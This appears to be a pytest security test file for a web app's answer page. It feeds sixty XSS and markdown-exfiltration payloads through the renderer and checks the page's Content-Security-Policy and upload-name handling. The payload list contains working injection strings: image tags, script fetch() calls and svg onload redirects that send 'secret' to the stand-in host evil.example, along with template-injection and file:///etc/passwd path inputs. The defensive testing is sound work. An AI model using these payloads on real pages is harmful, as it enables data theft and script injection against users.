"""No rendered answer causes a request: sixty payloads through the page, looked at as a browser would."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from starlette.requests import Request
from tests.unit.releases.workspaces import make_workspace
from tests.unit.serving.servers import client, serving

from knowhow.corpus.folder import known_suffixes
from knowhow.serving.rendering import render
from knowhow.types import Answer, Chunk, Citation, Hit

pytestmark = pytest.mark.slow

HOST = "evil.example"
LOADING = {
    "src", "srcset", "data", "poster", "background", "action", "formaction", "ping", "manifest", "cite", "longdesc", "profile", "usemap",
    "xlink:href", "href", "style", "content", "code", "archive", "codebase", "lowsrc", "dynsrc",
}  # fmt: skip
SHAPES = (
    "![x](https://{h}/?q={q})", "[click](https://{h}/?q={q})", "![x][7]\n\n[7]: https://{h}/{q}", "[x][7]\n\n[7]: https://{h}/{q} \"t\"",
    "<https://{h}/{q}>", "https://{h}/{q}", "<img src=https://{h}/{q}>", "<img src='//{h}/{q}'>", "<IMG SRC=\"https://{h}/{q}\" onerror=alert(1)>",
    "<a href=https://{h}/{q}>x</a>", "<script src=https://{h}/x.js></script>", "<script>fetch('https://{h}/{q}')</script>",
    "<link rel=stylesheet href=https://{h}/x.css>", "<style>@import 'https://{h}/x.css'</style>", "<div style=\"background:url(https://{h}/{q})\">",
    "<iframe src=https://{h}/{q}></iframe>", "<object data=https://{h}/{q}></object>", "<embed src=https://{h}/{q}>",
    "<video poster=https://{h}/{q}>", "<audio src=https://{h}/{q}>", "<svg><image xlink:href=https://{h}/{q} /></svg>",
    "<svg onload=location='https://{h}/{q}'>", "<meta http-equiv=refresh content='0;url=https://{h}/{q}'>", "<base href=https://{h}/>",
    "<form action=https://{h}/{q}><button>x</button></form>", "<input type=image src=https://{h}/{q}>", "<table background=https://{h}/{q}>",
    "[^1]\n\n[^1]: ![x](https://{h}/{q})", "<details open ontoggle=fetch('https://{h}/{q}')>", "data:text/html,<script>location='https://{h}'</script>",
    "javascript:fetch('https://{h}/{q}')", "{{{{ ''.__class__ }}}} https://{h}/{q}", "{{% include 'https://{h}/{q}' %}}",
    "\"><img src=https://{h}/{q}>", "'><img src=https://{h}/{q}>", "</p></article><img src=https://{h}/{q}>", "]]><img src=https://{h}/{q}>",
    "<!--><img src=https://{h}/{q}>-->", "&lt;img src=https://{h}/{q}&gt;", "&#60;img src=https://{h}/{q}&#62;",
)  # fmt: skip
HOSTS = (HOST, "еvil.example", "evil.example:8443", "[::1]", "xn--vil-8ed.example")


class Page(HTMLParser):
    """Collects every attribute and element with which a browser would fetch something or run something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.addresses: list[str] = []
        self.elements: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        for name, value in attributes:
            if name in LOADING and value:
                self.addresses.append(value)
            if name.startswith("on"):
                self.handlers.append(name)


def look(html: str) -> Page:
    page = Page()
    page.feed(html)
    return page


def payloads() -> list[str]:
    return [shape.format(h=HOSTS[number % len(HOSTS)], q="secret") for number, shape in enumerate(SHAPES)] + [
        shape.format(h=HOST, q="secret") for shape in SHAPES[:20]
    ]


def answer_of(payload: str) -> Answer:
    chunk = Chunk("c", "a.md", payload, 0, len(payload), title=payload, source=payload, heading=(payload,))
    citation = Citation(1, "c", "a.md", 0, 5, payload, payload, None, (payload,))
    return Answer(
        f"{payload} [1]",
        (citation,),
        hits=(Hit(chunk, 0.9),),
        notes=(payload,),
        warnings=(payload,),
        release=payload,
    )


def test_there_are_sixty_payloads() -> None:
    assert len(payloads()) == 60


def show(payload: str) -> Page:
    scope = {
        "type": "http", "method": "GET", "path": "/answers/id", "headers": [], "query_string": b"", "scheme": "http",
        "server": ("localhost", 80),
    }  # fmt: skip
    page = render(Request(scope), "answer.html", given=answer_of(payload), answer_id="id")
    return look(bytes(page.body).decode())


@pytest.mark.parametrize("payload", payloads())
def test_an_answer_is_text(payload: str) -> None:
    plain, shown = show("plain words"), show(payload)
    assert shown.elements == plain.elements, "no element comes out of an answer"
    assert shown.handlers == plain.handlers == []
    for address in shown.addresses:
        parts = urlsplit(address)
        assert (parts.scheme, parts.netloc) == ("", "")
        assert address.startswith(("/", "#"))


def test_the_policy_lets_a_page_load_from_its_own_server_only(tmp_path: Path) -> None:
    folder = make_workspace(tmp_path / "bot")
    with serving(folder) as (address, _):
        for path in ("/", "/ask", "/documents", "/api/health", "/static/app.js", "/nowhere"):
            policy = client(address).get(path).headers["content-security-policy"]
            rules = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
            assert rules["default-src"] == "'none'"
            assert all(value in ("'none'", "'self'") for value in rules.values()), policy
            assert {"base-uri", "frame-ancestors", "form-action"} <= set(rules)
            assert "img-src" not in rules, "without a rule of its own no image is loaded at all"


def test_an_address_is_no_document(tmp_path: Path) -> None:
    assert not [suffix for suffix in known_suffixes() if suffix in (".url", ".webloc", ".desktop", ".lnk")]
    folder = make_workspace(tmp_path / "bot")
    with serving(folder) as (address, _):
        for name in (
            "https://evil.example/a.md",
            "http:%2F%2Fevil.example%2Fa.md",
            "file:///etc/passwd",
            "//evil.example/a.md",
        ):
            assert client(address).put(f"/api/documents/{name}", content=b"x").status_code >= 400
